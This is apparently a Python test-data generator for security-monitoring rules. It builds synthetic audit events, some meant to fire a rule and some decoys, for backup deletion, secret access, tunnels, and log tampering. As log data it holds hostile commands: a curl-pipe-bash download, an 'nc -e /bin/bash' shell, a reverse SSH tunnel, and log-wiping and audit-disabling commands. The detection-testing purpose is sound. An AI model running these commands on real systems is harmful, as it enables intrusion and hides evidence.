"""Violations and decoys of DS-14 … DS-26 and LA-01 … LA-06."""
import json
from datetime import timedelta

import lines as L
from ordinary import minutes
from people import ADDRESS, BASTION, BY, LEAVER, at, change, iso, ticket
from violations import one, seconds

OS, DBA, CASE, AN, DEV = BY["os_admin"], BY["dba"], BY["case_worker"], BY["analyst"], BY["developer"]
JS = BASTION["jumpserver"]


def everything(b):
    copies(b)
    secrets(b)
    web_systems(b)
    settings(b)
    tools(b)
    leaving(b)
    records(b)
    switched_off(b)
    clocks(b)


def copies(b):
    # DS-14
    t = at("09-07", "15:00:00")
    for r, account in ((L.pg_connect(b, t, "desk_app", ADDRESS["desk-test-01"]), "desk_app"), (L.maria(b, t, "loan_app", ADDRESS["desk-test-02"], "CONNECT", ""), "loan_app")):
        b.expect("DS-14", None, [r], "High", "login from a test address to a production database (DS-14 Logic)", account)
    p = OS[6]
    b.expect("DS-14", p, [one(b, "jumpserver", p, "desk-pg-01", t, "rsync -a /backup/desk.dump 10.160.1.11:/restore/")], "High", "rsync prod -> non-prod (DS-14 Evidence)")
    # DS-15
    p, t = OS[7], at("09-07", "16:00:00")
    got = [L.actiontrail(b, t + minutes(n * 9), p.login, "DeleteSnapshot", "Ecs", dict(SnapshotId=f"s-q{n}"), ip=p.ip) for n in range(3)]
    b.expect("DS-15", p, got, "Critical", "3 backup objects deleted in 1 h (DS-15 Logic)")
    p = OS[5]
    r = L.cloudtrail(b, t, p.login, "ModifyDBInstance", "rds", dict(dBInstanceIdentifier="desk", backupRetentionPeriod=0), ip=p.ip)
    b.expect("DS-15", p, [r], "High", "backup retention made short by hand (DS-15 Logic)")
    p = OS[4]
    r = one(b, "jumpserver", p, "desk-pg-01", t, "rm -f /backup/desk.dump.1")
    b.expect("DS-15", p, [r], "High", "backup file deleted by a person (DS-15 Evidence)")
    r = L.windows(b, "win-fin-01", t, 4688, SubjectUserName=p.login, SubjectDomainName="QUARRY", NewProcessName="C:\\Windows\\System32\\vssadmin.exe",
                  CommandLine="vssadmin delete shadows /all /quiet", NewProcessId="0x77c", ProcessId="0x2e1")
    b.expect("DS-15", p, [r], "High", "vssadmin delete (DS-15 Evidence)")
    job = L.actiontrail(b, t, "retention", "DeleteSnapshot", "Ecs", dict(SnapshotId="s-old"), ip=ADDRESS["desk-app-06"], kind="assumed-role")
    b.decoy("DS-15", None, [job], "retention job under its service account (DS-15 FP)")
    r = one(b, "teleport", OS[3], "desk-pg-01", t, "pg_restore -d desk /backup/desk.dump")
    b.expect("DS-15", OS[3], [r], "High", "restore without ticket (DS-15 Logic)")
    # DS-16
    p = OS[2]
    r = L.actiontrail(b, t, p.login, "DeleteBucket", "Oss", dict(BucketName="quarry-customer-files"), ip=p.ip)
    b.expect("DS-16", p, [r], "High", "L3 object deleted without destroy ticket (DS-16 Logic)")
    p = DBA[1]
    r = L.pg(b, t, p.login, JS, "DDL", "DROP TABLE", "public.customer", "DROP TABLE public.customer")
    b.expect("DS-16", p, [r], "High", "L3 table deleted without destroy ticket (DS-16 Logic)")


def secrets(b):
    p, t = OS[1], at("09-10", "09:20:00")
    got = [L.cloudtrail(b, t + minutes(3 * n), p.login, "GetSecretValue", "secretsmanager", dict(secretId=f"app/{n}"), True, p.ip) for n in range(11)]
    b.expect("DS-17", p, got, "High", "11 secret reads in 1 h (DS-17 Logic)")
    t = at("09-10", "14:30:00")
    for r in (L.cloudtrail(b, t, p.login, "ScheduleKeyDeletion", "kms", dict(keyId="k-1", pendingWindowInDays=7), ip=p.ip), L.actiontrail(b, t + minutes(9), p.login, "ScheduleKeyDeletion", "Kms", dict(KeyId="k-2", PendingWindowInDays="7"), ip=p.ip)):
        b.expect("DS-17", p, [r], "Critical", "key scheduled for deletion (DS-17 Logic, Severity)")
    p = OS[2]
    r = L.actiontrail(b, t, p.login, "DisableKey", "Kms", dict(KeyId="k-3"), ip=p.ip)
    b.expect("DS-17", p, [r], "High", "key disabled (DS-17 Logic)")
    r = one(b, "jumpserver", OS[3], "desk-app-02", t, "export AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMIK7MDENGbPxRfiCYq9quarryKEY")
    b.expect("DS-17", OS[3], [r], "High", "secret pattern in a log field (DS-17 Logic)")
    r = one(b, "jumpserver", OS[4], "desk-app-02", t, "aws configure set aws_access_key_id AKIAIOSFODNN7EXAMPLE")
    b.decoy("DS-17", OS[4], [r], "known test key EXAMPLE (DS-17 FP)")
    # DS-18
    p, t = CASE[13], at("09-10", "19:10:00")
    b.expect("DS-18", p, L.web(b, t, p, "view", "customer", 771888, scheme="http")[:1], "Medium", "nginx scheme=http (DS-18 Evidence)")
    r = L.pg_connect(b, t, "desk_app", ADDRESS["desk-app-05"], ssl=False, pid=1301)
    b.expect("DS-18", None, [r], "Medium", "database session without TLS on production (DS-18 Text)", "desk_app")
    p = OS[5]
    r = L.cloudtrail(b, at("09-10", "15:00:00"), p.login, "CreateVolume", "ec2", dict(size="40", encrypted=False, zone="eu-central-1a"), ip=p.ip)
    b.expect("DS-18", p, [r], "Medium", "volume created without encryption (DS-18 Evidence)")
    r = L.cloudtrail(b, at("09-10", "15:40:00"), p.login, "DeleteBucketEncryption", "s3", dict(bucketName="quarry-customer-files"), ip=p.ip)
    b.expect("DS-18", p, [r], "High", "encryption switched off (DS-18 Severity)")
    s = L.Session(b, "jumpserver", p, "core-rt-01", at("09-10", "15:50:00"), protocol="telnet")
    b.expect("DS-18", p, [s.all[-1]], "Medium", "telnet session on production (DS-18 Logic)")
    s.close(at("09-10", "15:55:00"))


def web_systems(b):
    # DS-19
    p, t = CASE[14], at("09-11", "19:04:00")
    b.expect("DS-19", p, L.web(b, t, p, "export", "customer_list", "q-55", audit=False), "High", "2xx on a sensitive path, no audit event (DS-19 Logic)")
    b.expect("DS-19", p, L.web(b, t + minutes(7), p, "unmask", "customer", 88123, audit=False), "High", "2xx on a sensitive path, no audit event (DS-19 Logic)")
    head = dict(time=iso(t), remote_addr=p.ip, xff="", user=p.login, method="HEAD", uri="/customer/view?id=1", status=200, bytes=0, rt=0.01, ua=p.agent, ref="", host="desk.quarry.example", req_id="%032x" % 77, scheme="https")
    b.decoy("DS-19", p, [b.add("audit.nginx", t, head)], "HEAD request (DS-19 FP)")
    # DS-20
    p, t = CASE[0], at("09-11", "19:06:00")
    got = L.web(b, t, p, "impersonate", "customer", 90001, ticket=False, reason=None)
    b.expect("DS-20", p, got, "High", "impersonation without consent or ticket (DS-20 Logic)")
    p = CASE[2]
    got = L.web(b, t, p, "impersonate", "customer", 90002, ticket=False)
    got += L.web(b, t + minutes(3), p, "update", "customer", 90002, object=dict(fields=["mobile"]), before=dict(mobile="1**"), after=dict(mobile="2**"))
    b.expect("DS-20", p, got, "Critical", "impersonation, then contact data changed in the session (DS-20 Logic)")
    # DS-21
    p, t = DEV[0], at("09-11", "10:10:00")
    got = L.web(b, t, p, "view", "customer", 90111, agent="python-requests/2.32.4")
    b.expect("DS-21", p, got, "Medium", "non-browser agent on an L3 path by a person (DS-21 Logic)")
    got = L.web(b, t + minutes(8), DEV[1], "view", "loan_file", 70111, level="L4", system="loan", agent="curl/8.14.1")
    b.expect("DS-21", DEV[1], got, "High", "non-browser agent on an L4 path by a person (DS-21 Logic)")

    def probe(p, t, n):
        return [b.add("audit.nginx", t + seconds(5 * i), dict(time=iso(t + seconds(5 * i)), remote_addr=p.ip, xff="", user=p.login, method="GET", uri=f"/api/v2/item/{i}", status=404, bytes=90,
                                                             rt=0.01, ua=p.agent, ref="", host="desk.quarry.example", req_id="%032x" % b.random.getrandbits(128), scheme="https")) for i in range(n)]
    b.expect("DS-21", DEV[2], probe(DEV[2], t, 51), "Medium", "51 answers 404 in 5 min (DS-21 Logic: > 50)")
    b.decoy("DS-21", DEV[3], probe(DEV[3], t, 50), "50 answers 404 in 5 min (DS-21 Logic: > 50)")


def settings(b):
    # DS-22, DS-23
    p, t = OS[0], at("09-09", "10:10:00")
    b.expect("DS-22", p, [L.actiontrail(b, t, p.login, "CopySnapshot", "Ecs", dict(SnapshotId="s-q9", DestinationRegionId="us-west-1"), ip=p.ip)], "High", "copy to a region outside, no cross-border approval (DS-22 Logic)")
    for r in (L.actiontrail(b, t + minutes(2), p.login, "AuthorizeSecurityGroup", "Ecs", dict(SecurityGroupId="sg-1", SourceCidrIp="0.0.0.0/0", PortRange="5432/5432"), ip=p.ip),
              L.cloudtrail(b, t + minutes(9), p.login, "AuthorizeSecurityGroupIngress", "ec2", dict(groupId="sg-2", ipPermissions=dict(items=[dict(ipProtocol="tcp", fromPort=3306, toPort=3306, ipRanges=dict(items=[dict(cidrIp="0.0.0.0/0")]))])), ip=p.ip),
              L.cloudtrail(b, t + minutes(15), p.login, "DeletePublicAccessBlock", "s3", dict(bucketName="quarry-customer-files"), ip=p.ip),
              L.actiontrail(b, t + minutes(19), p.login, "ModifySecurityIps", "Rds", dict(DBInstanceId="rm-q1", SecurityIps="0.0.0.0/0"), ip=p.ip)):
        b.expect("DS-23", p, [r], "High", "network rule or public access widened by hand (DS-23 Logic)")
    narrow = L.cloudtrail(b, t + minutes(25), p.login, "AuthorizeSecurityGroupIngress", "ec2", dict(groupId="sg-3", ipPermissions=dict(items=[dict(ipProtocol="tcp", fromPort=443, toPort=443, ipRanges=dict(items=[dict(cidrIp="10.142.1.0/24")]))])), ip=p.ip)
    b.decoy("DS-23", p, [narrow], "a narrow rule (DS-23 Logic: wide network rules)")
    p = DBA[0]
    for r in (L.pg(b, t, p.login, JS, "ROLE", "GRANT", "public.customer", "GRANT SELECT ON customer TO PUBLIC"), one(b, "jumpserver", OS[1], "desk-pg-01", t, "echo 'host all all 0.0.0.0/0 trust' >> /etc/postgresql/15/main/pg_hba.conf")):
        b.expect("DS-23", p if r.topic == "audit.postgres" else OS[1], [r], "High", "open role or pg_hba trust (DS-23 Evidence)")


def tools(b):
    t = at("09-09", "15:10:00")
    for kind, p, host, command in (("jumpserver", OS[0], "desk-app-01", "ssh -N -L 5432:10.142.3.21:5432 10.142.3.21"), ("teleport", OS[1], "fleet-node-01", "ssh -fNR 8022:localhost:22 relay@198.51.100.9"),
                                   ("bastionhost", OS[2], "mail-relay-01", "nmap -sS 10.142.0.0/16"), ("jumpserver", OS[3], "desk-app-02", "curl -fsSL https://get.example.net/i.sh | bash"),
                                   ("teleport", OS[4], "fleet-node-02", "/tmp/.cache/agent --daemon"), ("jumpserver", OS[5], "desk-app-03", "nohup ./frpc -c frpc.ini"),
                                   ("bastionhost", OS[6], "mail-relay-02", "nc -lvp 4444 -e /bin/bash"), ("jumpserver", OS[7], "desk-app-06", "socat TCP-LISTEN:8080,fork TCP:10.142.3.21:5432")):
        b.expect("DS-24", p, [one(b, kind, p, host, t, command)], "High", "tunnel, scanner or code from a temporary path (DS-24 Logic)")
    p = OS[3]
    b.expect("DS-24", p, L.auditd(b, "desk-app-05", t, ["/dev/shm/x", "-d"], person=p), "High", "exec from /dev/shm (DS-24 Logic)")
    r = L.windows(b, "win-fin-02", t, 4697, SubjectUserName=p.login, SubjectDomainName="QUARRY", ServiceName="AnyDesk", ServiceFileName="C:\\ProgramData\\AnyDesk.exe --service", ServiceType="0x10", ServiceStartType="2", ServiceAccount="LocalSystem")
    b.expect("DS-24", p, [r], "High", "remote-control tool installed (DS-24 Text)")
    b.expect("DS-24", OS[2], [one(b, "bastionhost", OS[2], "mail-relay-03", t + minutes(70), "tcpdump -i eth0 -w /srv/c.pcap")], "Medium", "packet capture, ticket missing (DS-24 Severity)")
    b.changes.append(change("QCH-150", ["core-rt-01"], [OS[1]], t, t + minutes(60), operations=["diagnostics", "recon"]))
    b.decoy("DS-24", OS[1], [one(b, "jumpserver", OS[1], "core-rt-01", t + minutes(20), "nmap -sT 10.142.9.3")], "diagnostics with a ticket (DS-24 FP)")
    b.decoy("DS-24", OS[5], [one(b, "jumpserver", OS[5], "desk-app-04", t + minutes(80), "ls -la /tmp/.cache"), one(b, "jumpserver", OS[5], "desk-app-04", t + minutes(90), "ssh -V")], "nothing is run from /tmp, no tunnel (DS-24 Logic)")


def leaving(b):
    p, t = LEAVER, at("09-10", "17:00:00")
    b.tickets.append(ticket("QDR-070", "data_export", p, dict(objects=["customer_list"], fields=["name"]), at("09-10", "08:00:00"), at("09-11", "18:00:00"), row_limit=100))
    b.expect("DS-25", p, L.web(b, t, p, "export", "customer_list", "q-61", ticket=dict(type="data_export", id="QDR-070"), object=dict(count=60, fields=["name"]), rows=60), "High", "export of L3 with end_at in 15 days (DS-25 Logic)")
    b.expect("DS-25", p, [L.github(b, t + minutes(3 * n), p, "git.clone", f"product-{n}", transport_protocol_name="ssh") for n in range(6)], "High", "6 repositories cloned in a day (DS-25 Logic: > 5)")
    p = DEV[4]
    b.decoy("DS-25", p, [L.github(b, t + minutes(3 * n), p, "git.clone", f"product-{n}", transport_protocol_name="ssh") for n in range(6)], "no notice given: end_at not set (DS-25 Logic)")
    # DS-26 (c): bulk read, then log tampering in 60 min
    p, t = DBA[2], at("09-11", "16:05:00")
    read = L.pg(b, t, p.login, JS, "READ", "SELECT", "public.customer", "select name, city from customer", 5100)
    s = L.Session(b, "jumpserver", p, "desk-pg-01", t + minutes(10))
    wipe = s.run(t + minutes(12), "truncate -s 0 /var/log/postgresql/postgresql.log")
    s.close(t + minutes(14))
    b.expect("DS-02", p, [read], "High", "one query returns 5100 rows (DS-02 Logic)")
    b.expect("DS-13", p, [read], "High", "a DBA reads rows of L3 (DS-13 Logic)")
    b.expect("DS-01", p, [read], "Medium", "read without reason (DS-01 Logic)")
    b.expect("LA-05", p, [wipe], "Critical", "log truncated (LA-05 Evidence)")
    b.expect("DS-26", p, [read, wipe], "Critical", "bulk read, then log tampering in 60 min (DS-26 Logic c)")


def records(b):
    # LA-02, LA-03
    t = at("09-08", "10:00:00")
    body = dict(event_id=b.id(), time=t.isoformat(timespec="milliseconds"), system="billing", module="job", actor={}, request_id="r-1", source={}, action="update",
                object=dict(type="setting", id="9", level="L2", personal="none"), result="success", masked=True)
    b.expect("LA-02", None, [b.add("audit.webaudit", t, body)], "Low", "neither account nor place (LA-02 Logic)")
    body = dict(body, event_id=b.id(), actor={"account": "retention"}, action="delete")
    b.decoy("LA-02", None, [b.add("audit.webaudit", t + minutes(61), body)], "names the account (LA-02 Logic: neither … nor)")
    r = L.syslog3164(b, "desk-app-01", "desk", t, "feedback saved: nice#012Sep  8 09:59:01 desk-app-01 sshd[811]: Accepted password for root from 10.143.0.10 port 41000 ssh2", 991)
    b.expect("LA-03", None, [r], "High", "user input imitates an sshd line (LA-03 Logic, Severity)")
    for text, why in (("card 4539578763621486 refused", "bank card number in a log, checksum true"), ("id card 11010519491231002X checked", "identity number in a log, checksum true")):
        r = L.syslog5424(b, "desk-app-02", "desk", t + minutes(20), text, 990, 134)
        b.expect("LA-03", None, [r], "Medium", why + " (LA-03 Logic)")
    b.decoy("LA-03", None, [L.syslog5424(b, "desk-app-02", "desk", t + minutes(30), "order 4539578763621487 paid", 990, 134)], "checksum is wrong (LA-03 Logic: checksum verified)")
    # LA-04: a source is 3 minutes late for 12 minutes
    t = at("09-11", "12:20:00")
    got = [b.add("audit.gitlab", t + seconds(6 * n), dict(severity="INFO", time=(t + seconds(6 * n)).isoformat(timespec="milliseconds"), correlation_id=b.id(), author_id=3, author_name=DEV[0].login, entity_id=2,
                 entity_type="Project", entity_path="quarry/web", change="name", **{"from": "a", "to": "b"}, ip_address=DEV[0].ip, target_id=2, target_type="Project", target_details="quarry/web"), 180.0) for n in range(120)]
    b.expect("LA-04", None, got, "Medium", "p99 of the delay over 60 s for 10 min (LA-04 Logic)")
    L.SERIAL["desk-app-06"] = 52000
    L.auditd(b, "desk-app-06", at("09-11", "12:00:00"), ["/usr/bin/id"], auid=4294967295)
    L.SERIAL["desk-app-06"] += 900
    b.expect("LA-04", None, L.auditd(b, "desk-app-06", at("09-11", "12:01:00"), ["/usr/bin/id"], auid=4294967295), "Medium", "900 audit serials are missing (LA-04 Logic)")


def switched_off(b):
    t = at("09-09", "11:05:00")
    for kind, p, host, command, severity in (("jumpserver", OS[0], "desk-app-01", "systemctl stop rsyslog", "Critical"), ("teleport", OS[1], "fleet-node-01", "auditctl -e 0", "Critical"),
                                             ("bastionhost", OS[2], "mail-relay-01", "shred -u /var/log/auth.log", "Critical"), ("jumpserver", OS[3], "desk-app-02", "unset HISTFILE; export HISTFILE=/dev/null", "High"),
                                             ("jumpserver", OS[4], "desk-app-03", ": > /var/log/secure", "Critical"), ("teleport", OS[5], "fleet-node-05", "rm -f /var/log/messages", "Critical"),
                                             ("jumpserver", OS[6], "desk-app-04", "history -c", "High")):
        b.expect("LA-05", p, [one(b, kind, p, host, t, command)], severity, "records deleted or logging stopped (LA-05 Evidence, Severity)")
    p = OS[7]
    for r in (L.cloudtrail(b, t, p.login, "StopLogging", "cloudtrail", dict(name="main"), ip=p.ip), L.actiontrail(b, t + minutes(3), p.login, "DeleteTrail", "Actiontrail", dict(Name="main"), ip=p.ip)):
        b.expect("LA-05", p, [r], "Critical", "trail stopped or deleted (LA-05 Evidence)")
    b.expect("LA-05", p, [L.windows(b, "win-fin-01", t, 1102, SubjectUserName=p.login, SubjectDomainName="QUARRY", SubjectLogonId="0x99a")], "Critical", "Windows 1102 (LA-05 Evidence)")
    b.expect("LA-05", p, [L.windows(b, "win-fin-02", t, 4719, SubjectUserName=p.login, SubjectDomainName="QUARRY", SubcategoryGuid="{0cce9215-69ae-11d9-bed3-505054503030}", AuditPolicyChanges="%%8448")], "Critical", "Windows 4719 (LA-05 Evidence)")
    r = b.add("audit.auditd", t, f'node=desk-app-04 type=CONFIG_CHANGE msg=audit({t.timestamp():.3f}:41990): auid=1044 ses=9 op=set audit_enabled=0 old=1 auid=1044 ses=9 res=1')
    b.expect("LA-05", None, [r], "Critical", "auditd CONFIG_CHANGE audit_enabled=0 (LA-05 Evidence)")
    r = L.journal(b, "vault-01", "systemd", t, "Stopped auditd.service - Security Auditing Service.", UNIT="auditd.service")
    b.expect("LA-05", None, [r], "Critical", "auditd stopped (LA-05 Evidence)")
    r = L.syslog5424(b, "desk-app-05", "sudo", t, f"{OS[5].login} : TTY=pts/2 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/truncate -s 0 /var/log/audit/audit.log", 808)
    b.expect("LA-05", OS[5], [r], "Critical", "truncate on /var/log (LA-05 Evidence)")
    rotate = L.syslog3164(b, "desk-app-01", "CRON", t, "(root) CMD (/usr/sbin/logrotate /etc/logrotate.conf)", 77, 78)
    b.decoy("LA-05", None, [rotate, one(b, "jumpserver", OS[6], "desk-app-05", t + minutes(50), "tail -n 20 /var/log/messages")], "logrotate by root cron; reading a log (LA-05 FP)")
    p, t = OS[5], at("09-11", "20:00:00")
    b.changes.append(change("QCH-160", ["desk-app-01"], [p], t, t + minutes(60)))
    s = L.Session(b, "jumpserver", p, "desk-app-01", t + minutes(1))
    b.decoy("LA-05", p, [s.run(t + minutes(5), "systemctl stop filebeat"), s.run(t + minutes(8), "systemctl start filebeat")], "agent upgrade in a window: start within 5 min (LA-05 FP)")
    s.close(t + minutes(9))


def clocks(b):
    t = at("09-10", "11:05:00")
    for kind, p, host, command in (("jumpserver", OS[0], "desk-app-01", "date -s '2026-09-10 08:00:00'"), ("teleport", OS[1], "fleet-node-01", "timedatectl set-time 08:00"), ("bastionhost", OS[2], "mail-relay-01", "hwclock --set --date 08:00")):
        b.expect("LA-06", p, [one(b, kind, p, host, t, command)], "High", "clock set by a person (LA-06 Logic, Severity)")
    r = L.windows(b, "win-fin-01", t, 4616, SubjectUserName=OS[3].login, SubjectDomainName="QUARRY", PreviousTime="2026-09-10T03:05:00Z", NewTime="2026-09-10T00:05:00Z", ProcessName="C:\\Windows\\System32\\rundll32.exe")
    b.expect("LA-06", OS[3], [r], "High", "clock set by a person (LA-06 Evidence: Windows 4616)")
    b.decoy("LA-06", OS[4], [one(b, "jumpserver", OS[4], "desk-app-02", t, "date +%s"), one(b, "teleport", OS[7], "fleet-node-02", t, "timedatectl status")], "the time is read, not set (LA-06 Logic)")
    got = []
    for n in range(12):
        stamp = t + seconds(20 * n)
        got.append(L.syslog5424(b, "mail-relay-04", "postfix", stamp + timedelta(seconds=95), "queue active", 55, 22))
        got[-1].arrival = stamp + seconds(1)
    b.expect("LA-06", None, got, "Medium", "mail-relay-04 is 95 s ahead over 5 min (LA-06 Logic)")
    got = []
    for n in range(4):
        got.append(L.syslog5424(b, "mail-relay-02", "postfix", t + seconds(20 * n + 3), "queue active", 55, 22))
        got[-1].arrival = t + seconds(20 * n + 1)
    b.decoy("LA-06", None, got, "2 s ahead: inside the tolerance of 5 s (LA-06 Logic)")
